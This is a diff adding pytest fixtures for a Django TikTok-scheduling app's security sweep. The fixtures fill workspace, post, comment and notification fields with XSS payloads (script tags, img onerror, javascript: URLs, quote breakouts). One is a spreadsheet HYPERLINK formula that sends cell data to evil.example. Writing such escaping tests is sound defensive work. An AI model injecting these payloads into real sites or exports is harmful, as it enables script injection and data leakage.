@@ -1,0 +1,267 @@
+"""Fixtures for the security sweep: a workspace seeded with hostile strings, and a simulator."""
+
+from __future__ import annotations
+
+import datetime as dt
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from django.core.cache import cache
+from django.core.files.base import ContentFile
+from django.utils import timezone
+
+from accounts.models import (
+    AccountType,
+    Invitation,
+    Membership,
+    Notification,
+    Role,
+    TikTokAccount,
+    TikTokVideo,
+    User,
+    Workspace,
+)
+from analytics.models import AccountDailySnapshot, VideoSnapshot
+from calendar_app.models import MediaAsset, Post, PostEvent, PostStatus
+from conversations.models import Comment
+from tests.accounts.conftest import CALLBACK_PATH, Sim
+from tiktok_client.simulator import create_app
+from tiktok_client.simulator.server import run_in_thread
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = '"><img src=x onerror=alert(1)>'
+JS_URL = "javascript:alert(1)"
+#: Breaks out of a quoted JavaScript string inside an inline handler.
+QUOTE = "'-alert(1)-'"
+#: One string carrying every payload; it starts with the URL one so an unescaped href shows it.
+PAYLOAD = f"{JS_URL}//{IMG}{SCRIPT}{QUOTE}"
+#: A TikTok author key cannot hold "/" (it is a path segment), the rest still applies.
+KEY_PAYLOAD = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@dataclass
+class Seeded:
+    workspace: Workspace
+    account: TikTokAccount
+    video: TikTokVideo
+    media: MediaAsset
+    post: Post
+    published_post: Post
+    comment: Comment
+    hostile_author_comment: Comment
+    membership: Membership
+    invitation: Invitation
+
+    def url_values(self) -> dict[str, str]:
+        return {
+            "workspace_id": str(self.workspace.id),
+            "account_id": str(self.account.id),
+            "video_id": str(self.video.id),
+            "media_id": str(self.media.id),
+            "post_id": str(self.post.id),
+            "comment_id": str(self.comment.id),
+            "author_key": self.hostile_author_comment.author_key,
+            "membership_id": str(self.membership.id),
+            "invitation_id": str(self.invitation.id),
+            "token": self.invitation.token,
+            # allauth's e-mail confirmation and password reset keys: any value renders a page.
+            "key": "not-a-real-key",
+            "uidb36": "1",
+        }
+
+
+@pytest.fixture
+def seeded(workspace: Workspace, owner: User, editor: User, settings: Any, tmp_path: Any) -> Seeded:
+    """The workspace with every user- or TikTok-controlled string set to a hostile value."""
+    settings.MEDIA_ROOT = str(tmp_path / "media")
+    workspace.name = SCRIPT + " Acme"
+    workspace.save()
+    owner.first_name = IMG
+    owner.last_name = SCRIPT
+    owner.save()
+    account = TikTokAccount.objects.create(
+        workspace=workspace,
+        open_id="open-hostile",
+        username=SCRIPT,
+        display_name=PAYLOAD,
+        avatar_url=JS_URL,
+        account_type=AccountType.BUSINESS,
+        scopes=["user.info.basic", "video.publish", "video.list", "comment.list.manage"],
+    )
+    now = timezone.now()
+    video = TikTokVideo.objects.create(
+        workspace=workspace,
+        account=account,
+        video_id="7300000000000000042",
+        caption=PAYLOAD,
+        cover_image_url=JS_URL,
+        share_url=JS_URL,
+        posted_at=now - dt.timedelta(days=2),
+        view_count=1200,
+        like_count=30,
+        comment_count=2,
+    )
+    formula_video = TikTokVideo.objects.create(
+        workspace=workspace,
+        account=account,
+        video_id="7300000000000000043",
+        caption=FORMULA,
+        share_url="https://www.tiktok.com/@x/video/7300000000000000043",
+        posted_at=now - dt.timedelta(days=1),
+        view_count=10,
+    )
+    today = timezone.localdate()
+    for offset in range(3):
+        AccountDailySnapshot.objects.create(
+            workspace=workspace,
+            account=account,
+            date=today - dt.timedelta(days=offset),
+            followers=100 + offset,
+            video_views=50,
+            likes=5,
+        )
+    for item in (video, formula_video):
+        VideoSnapshot.objects.create(
+            workspace=workspace,
+            video=item,
+            bucket_at=now - dt.timedelta(hours=1),
+            captured_at=now - dt.timedelta(hours=1),
+            date=today,
+            views=item.view_count,
+        )
+    media = MediaAsset(
+        workspace=workspace,
+        kind="video",
+        original_name=PAYLOAD + ".mp4",
+        content_type="video/mp4",
+        size_bytes=16,
+        duration_seconds=12.0,
+        width=720,
+        height=1280,
+        frame_rate=30.0,
+    )
+    media.file.save("clip.mp4", ContentFile(b"\x00\x00\x00\x10ftypisom" + b"\x00" * 4), save=False)
+    media.save()
+    post = Post.objects.create(
+        workspace=workspace,
+        account=account,
+        media=media,
+        caption=PAYLOAD,
+        privacy_level="SELF_ONLY",
+        status=PostStatus.FAILED,
+        scheduled_at=now + dt.timedelta(days=1),
+        scheduled_tz="UTC",
+        needs_attention=f"Reconnect {PAYLOAD}",
+        fail_message=PAYLOAD,
+        tiktok_share_url="",
+    )
+    Post.objects.create(
+        workspace=workspace,
+        account=account,
+        media=media,
+        caption=PAYLOAD,
+        privacy_level="SELF_ONLY",
+        status=PostStatus.SCHEDULED,
+        scheduled_at=now + dt.timedelta(hours=3),
+        scheduled_tz="UTC",
+    )
+    PostEvent.objects.create(workspace=workspace, post=post, kind="failed", message=PAYLOAD)
+    published = Post.objects.create(
+        workspace=workspace,
+        account=account,
+        media=media,
+        caption=PAYLOAD,
+        privacy_level="SELF_ONLY",
+        status=PostStatus.PUBLISHED,
+        scheduled_at=now - dt.timedelta(hours=3),
+        published_at=now - dt.timedelta(hours=3),
+        scheduled_tz="UTC",
+        tiktok_share_url=JS_URL,
+        video=video,
+    )
+    PostEvent.objects.create(
+        workspace=workspace,
+        post=published,
+        kind="published",
+        message=PAYLOAD,
+        data={"share_url": JS_URL},
+    )
+    comment = Comment.objects.create(
+        workspace=workspace,
+        video=video,
+        account=account,
+        comment_id="7400000000000000001",
+        author_key="fan-hostile",
+        author_username=SCRIPT,
+        author_display_name=PAYLOAD,
+        author_avatar_url=JS_URL,
+        text=PAYLOAD,
+        created_at_tiktok=now - dt.timedelta(hours=2),
+    )
+    hostile_author_comment = Comment.objects.create(
+        workspace=workspace,
+        video=video,
+        account=account,
+        comment_id="7400000000000000002",
+        author_key=KEY_PAYLOAD,
+        author_username=IMG,
+        author_display_name=SCRIPT,
+        text=FORMULA,
+        created_at_tiktok=now - dt.timedelta(hours=1),
+    )
+    Notification.objects.create(
+        workspace=workspace,
+        user=owner,
+        kind="account_needs_reconnect",
+        title=f"Reconnect the TikTok account {PAYLOAD}",
+        body=PAYLOAD,
+        url="/",
+    )
+    invitation = Invitation.objects.create(
+        workspace=workspace,
+        email="invitee@example.com",
+        token="hostile-invite-token",
+        expires_at=now + dt.timedelta(days=3),
+        role=Role.EDITOR,
+    )
+    return Seeded(
+        workspace=workspace,
+        account=account,
+        video=video,
+        media=media,
+        post=post,
+        published_post=published,
+        comment=comment,
+        hostile_author_comment=hostile_author_comment,
+        membership=Membership.objects.for_workspace(workspace).get(user=editor),
+        invitation=invitation,
+    )
+
+
+@pytest.fixture
+def security_sim(settings: Any) -> Iterator[Sim]:
+    """A threaded TikTok simulator with settings pointed at it (tests/accounts' Sim wrapper)."""
+    app = create_app(min_processing_seconds=0.2, moderation_delay=0.0)
+    base_url, stop = run_in_thread(port=0, app=app)
+    settings.TIKTOK_AUTH_BASE_URL = base_url
+    settings.TIKTOK_OPEN_API_BASE_URL = base_url
+    settings.TIKTOK_BUSINESS_API_BASE_URL = base_url + "/open_api/v1.3"
+    settings.TIKTOK_REDIRECT_URI = "http://testserver" + CALLBACK_PATH
+    settings.TIKTOK_TIMEOUT_SECONDS = 5.0
+    sim = Sim(app, base_url)
+    sim.allow_redirect(settings.TIKTOK_REDIRECT_URI)
+    try:
+        yield sim
+    finally:
+        stop()
+
+
+@pytest.fixture
+def fresh_rate_limits() -> Iterator[None]:
+    """allauth and the TikTok rate limiter count in the cache/Redis DB this run owns."""
+    cache.clear()
+    yield
+    cache.clear()
